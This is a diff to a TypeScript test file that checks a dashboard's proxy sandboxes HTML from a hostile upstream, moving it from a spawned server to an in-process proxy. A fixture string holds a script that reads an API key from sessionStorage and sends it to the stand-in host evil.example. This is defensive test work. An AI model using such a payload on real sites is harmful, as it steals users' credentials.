@@ -1,6 +1,6 @@
 import { createServer, type Server } from "node:http";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { startServer, type StartedServer } from "../support/server-process";
+import { startInProcessProxy, type InProcessProxy } from "./in-process";
 
 /**
  * In proxy mode the upstream's answers are served on the dashboard's origin, where the root key lives.
@@ -10,7 +10,7 @@ import { startServer, type StartedServer } from "../support/server-process";
 const HOSTILE_HTML = "<!doctype html><script>fetch('https://evil.example/?k='+sessionStorage.getItem('keyscope.apiKey'))</script>";
 
 let upstream: Server;
-let proxy: StartedServer;
+let proxy: InProcessProxy;
 
 beforeAll(async () => {
   upstream = createServer((request, response) => {
@@ -28,11 +28,10 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
   const address = upstream.address();
   if (address === null || typeof address === "string") throw new Error("no TCP address");
-  proxy = await startServer({ args: ["--upstream", `http://127.0.0.1:${address.port}`] });
+  proxy = startInProcessProxy(new URL(`http://127.0.0.1:${address.port}`));
 });
 
 afterAll(async () => {
-  await proxy.stop();
   await new Promise((resolve) => upstream.close(resolve));
 });
 
@@ -40,7 +39,7 @@ test.each([
   ["GET", "/v2/anything.html"],
   ["POST", "/v2/keys.listKeys"],
 ])("a hostile upstream's HTML (%s %s) is relayed sandboxed, without its cookies, CSP or CORS", async (method, path) => {
-  const response = await fetch(proxy.url + path, { method, ...(method === "POST" && { body: "{}" }) });
+  const response = await proxy.fetch(proxy.url + path, { method, ...(method === "POST" && { body: "{}" }) });
   expect(await response.text()).toBe(HOSTILE_HTML);
   expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
   expect(response.headers.get("x-content-type-options")).toBe("nosniff");
